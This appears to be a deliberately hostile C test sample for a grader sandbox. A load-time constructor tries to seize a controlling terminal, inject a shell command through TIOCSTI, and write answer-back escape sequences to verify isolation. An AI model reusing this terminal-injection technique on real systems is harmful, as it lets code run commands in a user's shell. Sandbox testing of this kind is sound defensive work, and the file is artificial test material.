/*
 * Hostile: at every run, tries to push a command into the shell that
 * started the grader (TIOCSTI) through /dev/tty and each of its
 * descriptors 0-2, to make /dev/tty its controlling terminal again
 * (TIOCSCTTY), and to open a new terminal (/dev/ptmx, /dev/console), and
 * writes terminal escape sequences (a window title, a request for an
 * answer that a terminal would type back) to each of them.  The sandbox
 * runs it in a session of its own with no terminal to reach: every
 * attempt fails.  Were one to succeed, this code says so on stdout and
 * loses the command's tests.  (Without a terminal, as under CI, there is
 * nothing to steal anyway: see grader/tests/sandbox.bats for the session.)
 * Into: addrclass.c
 * Base: solutions
 * Expect-score: 36
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void attack(int fd, const char *name)
{
	static const char escapes[] = "\033]0;hostile\007\033[21t\033[6n";
	const char *cmd = "echo hostile-was-here\n";

	for (const char *c = cmd; *c != '\0'; c++)
		if (ioctl(fd, TIOCSTI, c) == 0) {
			printf("hostile: TIOCSTI worked on %s\n", name);
			break;
		}
	if (isatty(fd))
		(void)!write(fd, escapes, sizeof escapes - 1);
}

__attribute__((constructor)) static void hostile(void)
{
	static const char *const terminals[] = {"/dev/tty", "/dev/ptmx", "/dev/console"};

	for (size_t i = 0; i < sizeof terminals / sizeof terminals[0]; i++) {
		int fd = open(terminals[i], O_RDWR | O_NOCTTY | O_NONBLOCK);

		if (fd < 0)
			continue;
		printf("hostile: opened %s\n", terminals[i]);
		if (ioctl(fd, TIOCSCTTY, 0) == 0)
			printf("hostile: %s is my controlling terminal\n", terminals[i]);
		attack(fd, terminals[i]);
		close(fd);
	}
	for (int fd = 0; fd <= 2; fd++) {
		char name[16];

		snprintf(name, sizeof name, "fd %d", fd);
		if (isatty(fd) && ioctl(fd, TIOCSCTTY, 0) == 0)
			printf("hostile: %s is my controlling terminal\n", name);
		attack(fd, name);
	}
	fflush(stdout);
}
